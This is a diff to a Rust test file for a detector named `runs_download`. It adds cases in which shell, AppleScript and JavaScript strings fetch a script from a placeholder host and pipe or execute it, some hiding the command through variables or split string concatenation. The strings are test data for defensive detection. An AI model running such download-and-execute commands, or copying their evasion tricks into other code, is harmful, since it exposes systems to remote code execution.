@@ -140,6 +140,8 @@ fn a_download_that_a_variable_a_function_or_a_file_holds_is_run_where_that_is() 
         "f() { curl -s https://a.example/x; }; f | sh",
         "function f { curl -s https://a.example/x; }; f | bash",
         "C=curl; S=sh; $C -s https://a.example/x | ${S}",
+        "a=cu; b=rl; S=s; c=${a}$b; $c -s https://a.example/x | /bin/${S}h",
+        "D=/tmp/y; curl -s https://a.example/x -o $D/f; sh /tmp/y/f",
         "curl -s https://a.example/x -o f && osascript f",
         "curl -fsSLo /tmp/f https://a.example/x; source /tmp/f",
         "curl -H 'Authorization: x' --output=/tmp/f https://a.example/x; chmod +x /tmp/f && /tmp/f",
@@ -226,6 +228,8 @@ fn what_a_script_puts_together_of_literals_is_one_command() {
         "app.doShellScript('curl -s ' + u + ' | sh')",
         "app.doShellScript(`curl -s ${u} | sh`)",
         "do shell script \"sh -c \\\"curl -s 'https://a.example/x;b' | sh\\\"\"",
+        "set a to \"curl -s https://a.exa\"\nset b to \"mple/x | sh\"\ndo shell script a & b",
+        "const a = 'curl -s https://a.exa', b = 'mple/x | sh'; app.doShellScript(a + b)",
     ] {
         assert!(runs_download(text), "{text}");
     }
